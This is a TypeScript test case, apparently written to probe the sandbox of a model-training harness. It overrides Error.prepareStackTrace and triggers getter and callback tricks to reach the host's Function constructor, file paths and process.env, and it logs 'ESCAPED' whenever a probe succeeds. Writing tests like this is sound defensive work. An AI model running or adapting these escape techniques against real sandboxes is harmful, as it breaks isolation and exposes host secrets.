// attack: reads call sites through Error.prepareStackTrace for functions, receivers and files of the host
// success: ESCAPED in the log, or a path of the host in the result
// expect: runtime_error
// says: nothing was found

import * as tf from '@tensorflow/tfjs';
import type { TrainContext } from 'argmin';

export async function train({ report }: TrainContext): Promise<tf.LayersModel> {
  (Error as any).prepareStackTrace = (_error: Error, sites: any[]) => sites;
  const look = (where: string) => {
    for (const site of new Error(where).stack as unknown as any[]) {
      const file = String(site.getFileName());
      if (/[/\\]|node:|file:/.test(file)) console.log('ESCAPED', where, file);
      for (const found of [site.getThis(), site.getFunction()]) {
        try {
          const process = found?.constructor?.constructor?.('return this')?.()?.process;
          if (process?.env) console.log('ESCAPED', where, process.env);
        } catch {
          // refused
        }
      }
    }
  };
  const tries: [string, () => unknown][] = [
    [
      'getter',
      () =>
        JSON.stringify({
          get a() {
            look('getter');
            return 1;
          },
        }),
    ],
    [
      'report',
      () =>
        report({
          get a() {
            look('report');
            return 1;
          },
        } as any),
    ],
    ['sort', () => [2, 1].sort(() => (look('sort'), 0))],
    [
      'tensor',
      () =>
        tf.tensor({
          get length() {
            look('tensor');
            return 0;
          },
        } as any),
    ],
    [
      'kernel',
      () =>
        (tf.engine() as any).runKernel(
          'Add',
          {
            get a() {
              look('kernel');
              return null;
            },
          },
          {},
        ),
    ],
  ];
  for (const [where, attempt] of tries) {
    try {
      attempt();
    } catch (error) {
      look(where);
      for (const site of ((error as Error).stack as unknown as any[]) ?? []) {
        if (/[/\\]|node:/.test(String(site?.getFileName?.()))) console.log('ESCAPED', where);
      }
    }
  }
  await new Promise<void>((done) => setTimeout(() => (look('timer'), done()), 1));
  throw new Error('nothing was found');
}
